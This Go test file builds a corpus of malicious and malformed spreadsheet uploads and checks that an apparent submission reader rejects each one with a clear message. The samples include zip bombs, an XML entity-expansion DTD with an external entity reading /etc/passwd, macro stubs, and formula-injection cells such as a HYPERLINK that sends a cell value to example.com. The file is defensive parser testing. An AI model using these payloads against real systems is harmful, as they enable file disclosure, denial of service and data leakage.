package sheets

// The hostile corpus (testdata/hostile): one file per kind of broken or
// malicious upload, each with the message a person gets. The files are
// made by TestHostileRegenerate (KAOHE_REGEN_HOSTILE=1 go test ./sheets
// -run TestHostileRegenerate; it needs soffice for the .xls and .ods cases)
// and read by TestHostileCorpus; the pipeline's corpus run
// (pipeline/hostile_test.go) reads them too.

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"fmt"
	"hash/crc32"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"kaohe/sheets/internal/book"
	"kaohe/sheets/internal/layout"
	"kaohe/sheets/internal/text"
	"kaohe/templates"
	"kaohe/templates/score"
)

// hostileDir holds the corpus.
const hostileDir = "testdata/hostile"

// hostileFactsPart is the 完成情况 sheet's part in a kaohe template.
const hostileFactsPart = "xl/worksheets/sheet2.xml"

// hostileCase is one file of the corpus and what reading it must say.
type hostileCase struct {
	file string
	// make builds the file from a filled template (nil: not regenerated
	// here, or built by a tool, see TestHostileRegenerate).
	make func(t *testing.T, h *hostileBase) []byte
	// want is a part of the one Error issue's message (or, with accepted,
	// of a Warning); field and cell name the place when the issue has one.
	want     string
	field    string
	cell     bool // the issue names a sheet and cell
	accepted bool // the file is accepted (with warnings)
}

// hostileBase is what the cases are made from.
type hostileBase struct {
	std    *templates.Standard
	filled []byte            // 省常技's template, filled with readTestBase
	parts  *hostilePkg       // its parts
	places map[string]string // field -> cell in 完成情况
}

func hostileNewBase(t *testing.T) *hostileBase {
	t.Helper()
	std := tmplTestStd(t)
	template := tmplTestWrite(t, std, tmplTestInst(t, std, "省常技"))
	filled := readTestFillGo(t, template, readTestBase())
	h := &hostileBase{std: std, filled: filled, parts: hostileUnzip(t, filled), places: map[string]string{}}
	names := book.Resolve(tmplTestOpen(t, template))
	for _, fd := range templates.Fields {
		if at, _, ok := names.Lookup(fd.Name); ok && at.Sheet == TemplateSheetFacts {
			h.places[fd.Name] = at.Cell
		}
	}
	if !strings.Contains(string(h.parts.get(hostileFactsPart)), `r="`+h.places["actual_certified"]+`"`) {
		t.Fatalf("%s is not the 完成情况 sheet", hostileFactsPart)
	}
	return h
}

// filledWith is the template filled with readTestBase and then values.
func (h *hostileBase) filledWith(t *testing.T, values map[string]any) []byte {
	t.Helper()
	v := readTestBase()
	for k, x := range values {
		v[k] = x
	}
	template := tmplTestWrite(t, h.std, tmplTestInst(t, h.std, "省常技"))
	return readTestFillGo(t, template, v)
}

// editFacts is the filled workbook with the 完成情况 sheet's XML edited.
func (h *hostileBase) editFacts(t *testing.T, edit func(xml string) string) []byte {
	t.Helper()
	p := h.parts.clone()
	p.set(hostileFactsPart, []byte(edit(string(p.get(hostileFactsPart)))))
	return p.zip(t, flate.BestCompression)
}

// cellXML matches the <c> element of a cell.
func cellXML(ref string) *regexp.Regexp {
	return regexp.MustCompile(`<c r="` + ref + `"[^>]*?(/>|>.*?</c>)`)
}

// hostilePkg is a workbook's parts, in zip order.
type hostilePkg struct {
	names []string
	parts map[string][]byte
}

func hostileUnzip(t testing.TB, b []byte) *hostilePkg {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatal(err)
	}
	p := &hostilePkg{parts: map[string][]byte{}}
	for _, f := range zr.File {
		rc, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		data, err := io.ReadAll(rc)
		rc.Close()
		if err != nil {
			t.Fatal(err)
		}
		p.names = append(p.names, f.Name)
		p.parts[f.Name] = data
	}
	return p
}

func (p *hostilePkg) get(name string) []byte { return p.parts[name] }

func (p *hostilePkg) set(name string, b []byte) {
	if _, ok := p.parts[name]; !ok {
		p.names = append(p.names, name)
	}
	p.parts[name] = b
}

func (p *hostilePkg) clone() *hostilePkg {
	q := &hostilePkg{names: append([]string(nil), p.names...), parts: map[string][]byte{}}
	for k, v := range p.parts {
		q.parts[k] = v
	}
	return q
}

// zip writes the parts; level is a flate level, or -2 (flate.HuffmanOnly)
// and below for stored parts.
func (p *hostilePkg) zip(t testing.TB, level int) []byte {
	t.Helper()
	var b bytes.Buffer
	zw := zip.NewWriter(&b)
	if level >= flate.HuffmanOnly {
		zw.RegisterCompressor(zip.Deflate, func(w io.Writer) (io.WriteCloser, error) { return flate.NewWriter(w, level) })
	}
	method := zip.Deflate
	if level < flate.HuffmanOnly {
		method = zip.Store
	}
	for _, n := range p.names {
		w, err := zw.CreateHeader(&zip.FileHeader{Name: n, Method: method})
		if err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write(p.parts[n]); err != nil {
			t.Fatal(err)
		}
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// hostileDeflate compresses r's bytes at the best level.
func hostileDeflate(t testing.TB, r io.Reader) (packed []byte, size int64, crc uint32) {
	t.Helper()
	var b bytes.Buffer
	fw, _ := flate.NewWriter(&b, flate.BestCompression)
	h := crc32.NewIEEE()
	n, err := io.Copy(io.MultiWriter(fw, h), r)
	if err != nil {
		t.Fatal(err)
	}
	fw.Close()
	return b.Bytes(), n, h.Sum32()
}

// zipWithRaw is p's parts plus one raw, already deflated part whose header
// says what hdr says (sizes and CRC may lie).
func (p *hostilePkg) zipWithRaw(t testing.TB, skip string, hdr *zip.FileHeader, packed []byte) []byte {
	t.Helper()
	var b bytes.Buffer
	zw := zip.NewWriter(&b)
	zw.RegisterCompressor(zip.Deflate, func(w io.Writer) (io.WriteCloser, error) { return flate.NewWriter(w, flate.BestCompression) })
	raw := false
	for _, n := range p.names {
		if n == skip || n == hdr.Name {
			if !raw {
				w, err := zw.CreateRaw(hdr)
				if err != nil {
					t.Fatal(err)
				}
				w.Write(packed)
				raw = true
			}
			continue
		}
		w, err := zw.Create(n)
		if err != nil {
			t.Fatal(err)
		}
		w.Write(p.parts[n])
	}
	if !raw {
		w, err := zw.CreateRaw(hdr)
		if err != nil {
			t.Fatal(err)
		}
		w.Write(packed)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// hostileCases is the corpus: points 1 (what the file is), 2 (bounded
// parsing) and 3 (text that looks like a formula, too long a text) of the
// hostile-input issue.
var hostileCases = []hostileCase{
	// 1. Sniffed, whatever the name says.
	{file: "empty.xlsx", make: func(t *testing.T, h *hostileBase) []byte { return []byte{} },
		want: "文件是空的（0 字节），可能上传没有完成"},
	{file: "truncated-upload.xlsx", make: func(t *testing.T, h *hostileBase) []byte { return h.filled[:len(h.filled)*2/3] },
		want: "文件不完整或已损坏（像是没有上传完的 .xlsx）；请重新上传"},
	{file: "csv-renamed.xlsx", make: func(t *testing.T, h *hostileBase) []byte {
		return []byte("鉴定机构,职业技能鉴定人数,职业资格取证人数\n省常技国家职业技能鉴定所,9500,8450\n")
	}, want: "这是 CSV 文本文件（逗号或制表符分隔），只是扩展名为 .xlsx"},
	{file: "pdf-renamed.xlsx", make: func(t *testing.T, h *hostileBase) []byte {
		return []byte("%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n")
	}, want: "这是 PDF 文件，只是扩展名为 .xlsx"},
	{file: "text-renamed.xlsx", make: func(t *testing.T, h *hostileBase) []byte {
		return []byte("自评表已经填好了，数据如下：鉴定 9500 人，取证 8450 人。\n")
	}, want: "这是文本文件，只是扩展名为 .xlsx"},
	{file: "html-renamed.xlsx", make: func(t *testing.T, h *hostileBase) []byte {
		return []byte("<html><head><meta charset=\"utf-8\"></head><body><table><tr><td>鉴定机构</td><td>9500</td></tr></table></body></html>\n")
	}, want: "这是网页文件（HTML，常见于业务系统“导出 Excel”）"},
	{file: "image-renamed.xlsx", make: func(t *testing.T, h *hostileBase) []byte {
		return append([]byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"), make([]byte, 64)...)
	}, want: "这是图片，不是 Excel 工作簿"},
	{file: "legacy-xls.xlsx", want: "这是旧版 Excel 97-2003 工作簿（.xls 格式），只是扩展名为 .xlsx；请用 Excel 或 WPS 打开后「另存为」Excel 工作簿（.xlsx）"},
	{file: "ods-renamed.xlsx", want: "这是 OpenDocument 电子表格（.ods 格式），只是扩展名为 .xlsx"},
	{file: "password.xlsx", make: func(t *testing.T, h *hostileBase) []byte {
		f := tmplTestOpen(t, h.filled)
		var b bytes.Buffer
		if err := f.Write(&b, excelize.Options{Password: "kaohe"}); err != nil {
			t.Fatal(err)
		}
		return b.Bytes()
	}, want: "工作簿设置了打开密码（文件已加密），无法读取；请在 Excel 或 WPS 中取消打开密码"},
	{file: "macro-vba.xlsx", make: func(t *testing.T, h *hostileBase) []byte {
		p := h.parts.clone()
		p.set("xl/vbaProject.bin", append([]byte{0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1}, make([]byte, 504)...))
		ct := strings.Replace(string(p.get("[Content_Types].xml")), "<Default ", `<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Default `, 1)
		p.set("[Content_Types].xml", []byte(ct))
		return p.zip(t, flate.BestCompression)
	}, want: "工作簿中含有宏（VBA 或 Excel 4.0 宏），为安全起见不予接受"},
	{file: "macro-enabled.xlsm", make: func(t *testing.T, h *hostileBase) []byte {
		p := h.parts.clone()
		ct := strings.Replace(string(p.get("[Content_Types].xml")), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
			"application/vnd.ms-excel.sheet.macroEnabled.main+xml", 1)
		p.set("[Content_Types].xml", []byte(ct))
		return p.zip(t, flate.BestCompression)
	}, want: "这是启用宏的工作簿（.xlsm），为安全起见不予接受"},
	{file: "word-renamed.xlsx", make: func(t *testing.T, h *hostileBase) []byte {
		p := &hostilePkg{parts: map[string][]byte{}}
		p.set("[Content_Types].xml", []byte(`<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`))
		p.set("_rels/.rels", []byte(`<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>`))
		p.set("word/document.xml", []byte(`<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>自评表</w:t></w:r></w:p></w:body></w:document>`))
		return p.zip(t, flate.BestCompression)
	}, want: "这是 Word 文档（.docx），不是 Excel 工作簿"},
	{file: "not-template.xlsx", make: func(t *testing.T, h *hostileBase) []byte {
		f := excelize.NewFile()
		defer f.Close()
		f.SetCellStr("Sheet1", "A1", "鉴定机构")
		f.SetCellStr("Sheet1", "B1", "省常技国家职业技能鉴定所")
		var b bytes.Buffer
		f.Write(&b)
		return b.Bytes()
	}, want: "不是本年度的自评表模板（没有找到定义名称 template_year、inst_name 等）"},

	// 2. Bounded parsing.
	{file: "zip-bomb.xlsx", make: func(t *testing.T, h *hostileBase) []byte {
		packed, size, crc := hostileDeflate(t, io.LimitReader(zeroReader{}, 300<<20))
		hdr := &zip.FileHeader{Name: "xl/media/image1.png", Method: zip.Deflate, CRC32: crc,
			CompressedSize64: uint64(len(packed)), UncompressedSize64: uint64(size)}
		return h.parts.zipWithRaw(t, "", hdr, packed)
	}, want: "文件解压后超过 64 MB（压缩比达"},
	{file: "zip-bomb-lying-header.xlsx", make: func(t *testing.T, h *hostileBase) []byte {
		sheet := h.parts.get(hostileFactsPart)
		packed, _, _ := hostileDeflate(t, io.MultiReader(bytes.NewReader(sheet), io.LimitReader(spaceReader{}, 200<<20)))
		hdr := &zip.FileHeader{Name: hostileFactsPart, Method: zip.Deflate, CRC32: crc32.ChecksumIEEE(sheet),
			CompressedSize64: uint64(len(packed)), UncompressedSize64: uint64(len(sheet))}
		return h.parts.zipWithRaw(t, hostileFactsPart, hdr, packed)
	}, want: "文件已损坏：工作表「完成情况」的压缩数据不完整或与声明的大小不符"},
	{file: "xml-part-too-big.xlsx", make: func(t *testing.T, h *hostileBase) []byte {
		return h.editFacts(t, func(x string) string {
			return strings.Replace(x, "<sheetData>", "<sheetData>"+strings.Repeat(" ", 17<<20), 1)
		})
	}, want: "工作表「完成情况」解压后 17.02 MB，超过 16 MB 的上限"},
	{file: "row-2147483647.xlsx", make: func(t *testing.T, h *hostileBase) []byte {
		return h.editFacts(t, func(x string) string {
			return strings.Replace(x, "</sheetData>", `<row r="2147483647"><c r="A1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>`, 1)
		})
	}, want: "文件已损坏：工作表「完成情况」中有行号 2147483647，超出 Excel 的最大行号 1,048,576"},
	{file: "row-1048576.xlsx", make: func(t *testing.T, h *hostileBase) []byte {
		return h.editFacts(t, func(x string) string {
			return strings.Replace(x, "</sheetData>", `<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>`, 1)
		})
	}, want: "工作表「完成情况」第 1,048,576 行仍有内容或格式，自评表只需要约 60 行，最多读取 10,000 行"},
	{file: "rows-1048576.xlsx", make: func(t *testing.T, h *hostileBase) []byte {
		return h.editFacts(t, func(x string) string {
			last := 0
			for _, m := range regexp.MustCompile(`<row r="(\d+)"`).FindAllStringSubmatch(x, -1) {
				last, _ = strconv.Atoi(m[1])
			}
			return strings.Replace(x, "</sheetData>", strings.Repeat("<row/>", excelize.TotalRows-last)+"</sheetData>", 1)
		})
	}, want: "工作表「完成情况」第 10,001 行仍有内容或格式"},
	{file: "wide-rows.xlsx", make: func(t *testing.T, h *hostileBase) []byte {
		return h.editFacts(t, func(x string) string {
			var b strings.Builder
			for r := 100; r < 2100; r++ {
				fmt.Fprintf(&b, `<row r="%d"><c r="XFD%d"><v>1</v></c></row>`, r, r)
			}
			return strings.Replace(x, "</sheetData>", b.String()+"</sheetData>", 1)
		})
	}, want: "工作表「完成情况」的单元格超过 200,000 个"},
	{file: "malformed-row.xlsx", make: func(t *testing.T, h *hostileBase) []byte {
		return h.editFacts(t, func(x string) string {
			ref := h.places["actual_certified"]
			i := strings.Index(x, `<c r="`+ref+`"`)
			j := strings.Index(x[i:], "</row>")
			return x[:i+j] + "</rw>" + x[i+j+len("</row>"):]
		})
	}, want: "文件已损坏：工作表「完成情况」的 XML 格式错误（第 "},
	{file: "sheet-xml-cut.xlsx", make: func(t *testing.T, h *hostileBase) []byte {
		return h.editFacts(t, func(x string) string { return x[:len(x)*3/5] })
	}, want: "文件已损坏：工作表「完成情况」的 XML 格式错误"},
	{file: "dtd-entities.xlsx", make: func(t *testing.T, h *hostileBase) []byte {
		return h.editFacts(t, func(x string) string {
			dtd := `<!DOCTYPE worksheet [<!ENTITY a "9999999999"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY ext SYSTEM "file:///etc/passwd">]>`
			x = strings.Replace(x, "?>", "?>"+dtd, 1)
			return cellXML(h.places["actual_certified"]).ReplaceAllString(x, `<c r="`+h.places["actual_certified"]+`" t="inlineStr"><is><t>&c;&ext;</t></is></c>`)
		})
	}, want: "工作表「完成情况」包含 DTD 声明（<!DOCTYPE>），Excel、WPS 和 LibreOffice 保存的工作簿不会有，为安全起见不予读取"},
	{file: "duplicate-cell.xlsx", make: func(t *testing.T, h *hostileBase) []byte {
		return h.editFacts(t, func(x string) string {
			ref := h.places["actual_certified"]
			c := cellXML(ref).FindString(x)
			return strings.Replace(x, c, c+`<c r="`+ref+`"><v>99999</v></c>`, 1)
		})
	}, want: "出现了两次或顺序错乱"},
	{file: "shared-string-missing.xlsx", field: "actual_certified", cell: true, make: func(t *testing.T, h *hostileBase) []byte {
		return h.editFacts(t, func(x string) string {
			ref := h.places["actual_certified"]
			return cellXML(ref).ReplaceAllString(x, `<c r="`+ref+`" t="s"><v>999999</v></c>`)
		})
	}, want: "文件已损坏：单元格引用了不存在的文字（共享字符串 999999）"},

	// 3. Text: never a formula, never cut.
	{file: "formula-text.xlsx", accepted: true, field: "contact_name", cell: true, make: func(t *testing.T, h *hostileBase) []byte {
		return h.filledWith(t, map[string]any{"contact_name": `=HYPERLINK("http://example.com/?q="&A1,"点此查看")`, "contact_phone": "@SUM(1,1)"})
	}, want: "看起来像公式；kaohe 只把它当作文字保存，不会计算它"},
	{file: "formula-text-in-counts.xlsx", field: "actual_certified", cell: true, make: func(t *testing.T, h *hostileBase) []byte {
		return h.filledWith(t, map[string]any{"actual_certified": "=1+1", "i1_competitions": "+1", "i1_enterprise_evaluations": "-1",
			"i4_leaks": "\t=2", "i7_arrears_yuan": "\r=3", "i4_dev_projects": "@A1"})
	}, want: "「=1+1」不是非负整数"},
	{file: "formula-cell.xlsx", field: "actual_certified", cell: true, make: func(t *testing.T, h *hostileBase) []byte {
		return h.editFacts(t, func(x string) string {
			ref := h.places["actual_certified"]
			return cellXML(ref).ReplaceAllString(x, `<c r="`+ref+`"><f>SUM(8000,450)</f><v>8450</v></c>`)
		})
	}, want: "单元格中是公式「=SUM(8000,450)」；请直接填写数值，不要使用公式"},
	{file: "overlong-text.xlsx", field: "contact_name", cell: true, make: func(t *testing.T, h *hostileBase) []byte {
		p := hostileUnzip(t, h.filledWith(t, map[string]any{"contact_name": "OVERLONG"}))
		sst := strings.Replace(string(p.get("xl/sharedStrings.xml")), ">OVERLONG<", ">"+strings.Repeat("张", 40000)+"<", 1)
		p.set("xl/sharedStrings.xml", []byte(sst))
		return p.zip(t, flate.BestCompression)
	}, want: "内容长 40,000 个字符，超过 Excel 单元格的上限 32,767 个字符，未读取"},
	{file: "long-institution.xlsx", field: "inst_name", cell: true, make: func(t *testing.T, h *hostileBase) []byte {
		p := hostileUnzip(t, h.filled)
		sst := strings.Replace(string(p.get("xl/sharedStrings.xml")), ">省常技国家职业技能鉴定所<", ">"+strings.Repeat("长", 30000)+"<", 1)
		p.set("xl/sharedStrings.xml", []byte(sst))
		return p.zip(t, flate.BestCompression)
	}, want: "…（共 30,000 个字符）」不是 2013 年度目标任务分解表（附件2）中的鉴定机构"},
}

// hostileStd is the 2013 standard, loaded once.
var hostileStd = sync.OnceValue(func() *templates.Standard {
	std, _, err := templates.Load(2013)
	if err != nil {
		panic(err)
	}
	return std
})

type zeroReader struct{}

func (zeroReader) Read(b []byte) (int, error) { clear(b); return len(b), nil }

type spaceReader struct{}

func (spaceReader) Read(b []byte) (int, error) {
	for i := range b {
		b[i] = ' '
	}
	return len(b), nil
}

// TestHostileRegenerate remakes testdata/hostile (and the fuzz seeds) when
// KAOHE_REGEN_HOSTILE=1.
func TestHostileRegenerate(t *testing.T) {
	if os.Getenv("KAOHE_REGEN_HOSTILE") == "" {
		t.Skip("set KAOHE_REGEN_HOSTILE=1 to regenerate testdata/hostile")
	}
	h := hostileNewBase(t)
	if err := os.MkdirAll(hostileDir, 0o755); err != nil {
		t.Fatal(err)
	}
	for _, c := range hostileCases {
		if c.make == nil {
			continue
		}
		if err := os.WriteFile(filepath.Join(hostileDir, c.file), c.make(t, h), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	// .xls and .ods as LibreOffice writes them, renamed .xlsx.
	if _, err := exec.LookPath("soffice"); err != nil {
		t.Fatalf("soffice is needed for legacy-xls.xlsx and ods-renamed.xlsx: %v", err)
	}
	dir := t.TempDir()
	src := filepath.Join(dir, "filled.xlsx")
	if err := os.WriteFile(src, h.filled, 0o644); err != nil {
		t.Fatal(err)
	}
	for ext, file := range map[string]string{"xls": "legacy-xls.xlsx", "ods": "ods-renamed.xlsx"} {
		cmd := exec.Command("soffice", "--headless", "-env:UserInstallation=file://"+filepath.Join(dir, "lo"), "--convert-to", ext, "--outdir", dir, src)
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("soffice --convert-to %s: %v\n%s", ext, err, out)
		}
		b, err := os.ReadFile(filepath.Join(dir, "filled."+ext))
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(hostileDir, file), b, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	fuzzWriteSeeds(t, h)
}

// TestHostileCorpus reads every file of the corpus and checks its message:
// one Error (or, for an accepted file, a Warning) saying what is wrong.
func TestHostileCorpus(t *testing.T) {
	std := tmplTestStd(t)
	seen := map[string]bool{}
	for _, c := range hostileCases {
		seen[c.file] = true
		t.Run(c.file, func(t *testing.T) {
			b, err := os.ReadFile(filepath.Join(hostileDir, c.file))
			if err != nil {
				t.Fatalf("%v (KAOHE_REGEN_HOSTILE=1 go test ./sheets -run TestHostileRegenerate remakes the corpus)", err)
			}
			sub := readTest(bytes.NewReader(b), c.file, std, Limits{})
			hostileCheck(t, sub)
			hostileReceipt(t, sub)
			if sub.Accepted() != c.accepted {
				t.Errorf("accepted = %v, want %v: %v", sub.Accepted(), c.accepted, sub.Issues)
			}
			var hit *Issue
			for i, is := range sub.Issues {
				if strings.Contains(is.Message, c.want) && hit == nil {
					hit = &sub.Issues[i]
				}
			}
			if hit == nil {
				t.Fatalf("no issue says %q:\n%s", c.want, hostileIssues(sub))
			}
			if hit.File != c.file {
				t.Errorf("issue names file %q", hit.File)
			}
			if c.field != "" && hit.Field != c.field {
				t.Errorf("issue names field %q, want %q", hit.Field, c.field)
			}
			if c.cell != (hit.Cell != "" && hit.Sheet != "") {
				t.Errorf("issue place %q, want a place: %v", hit.Place(), c.cell)
			}
			if !c.accepted && c.field == "" {
				if len(sub.Issues) != 1 || hit.Cause == "" {
					t.Errorf("want exactly one issue with its English cause:\n%s", hostileIssues(sub))
				}
			}
			t.Logf("%s: %s [cause: %s]", c.file, hit.String(), firstLine(hit.Cause))
		})
	}
	des, _ := os.ReadDir(hostileDir)
	for _, de := range des {
		if !seen[de.Name()] {
			t.Errorf("%s/%s has no case in hostileCases", hostileDir, de.Name())
		}
	}
}

func firstLine(s string) string {
	s, _, _ = strings.Cut(s, "\n")
	return s
}

func hostileIssues(sub *Submission) string {
	var b strings.Builder
	for _, is := range sub.Issues {
		fmt.Fprintf(&b, "  %s %s %s [%s]\n", is.Severity, is.Field, is.String(), firstLine(is.Cause))
	}
	return b.String()
}

// hostileCheck asserts what holds for any submission, however broken the
// file: no panic was recovered, every text fits an Excel cell with room
// for the report's own words, the issues are few (hostileReceipt: and a
// receipt can be written for it).
func hostileCheck(t testing.TB, sub *Submission) {
	t.Helper()
	if sub == nil {
		t.Fatal("Read returned nil")
	}
	if len(sub.Issues) > 3*len(templates.Fields)+5 {
		t.Errorf("%d issues", len(sub.Issues))
	}
	for _, is := range sub.Issues {
		if strings.HasPrefix(is.Cause, "panic:") {
			t.Fatalf("the reader panicked: %s", is.Cause)
		}
		if is.Message == "" || (is.Severity != Error && is.Severity != Warning) {
			t.Errorf("bad issue %+v", is)
		}
		for _, s := range []string{is.Message, is.Value, is.Sheet, is.Cell, is.Label} {
			if n := text.Units(s); n > 4*text.ClipAt+400 {
				t.Errorf("issue text of %d characters: %.80q", n, s)
			}
		}
	}
	for _, s := range []string{sub.Facts.Institution, sub.ContactName, sub.ContactPhone, sub.Token} {
		if n := text.Units(s); n > layout.MaxChars {
			t.Errorf("submission text of %d characters", n)
		}
	}
	if sub.Accepted() && sub.Institution.Name == "" {
		t.Errorf("accepted without an institution: %s", hostileIssues(sub))
	}
}

// hostileReceipt checks that a receipt can be written for sub.
func hostileReceipt(t testing.TB, sub *Submission) {
	t.Helper()
	status := StatusRejected
	rc := &Receipt{Upload: Upload{File: sub.File, Institution: sub.Facts.Institution, Status: status}, Submission: sub, Issued: time.Unix(0, 0)}
	if sub.Accepted() {
		std := hostileStd()
		r := score.Score(std, sub.Institution, sub.Facts)
		rc.Standard, rc.Result, rc.Upload.Status = std, &r, StatusAccepted
	}
	if err := WriteReceipt(io.Discard, rc); err != nil {
		t.Errorf("no receipt can be written: %v", err)
	}
}
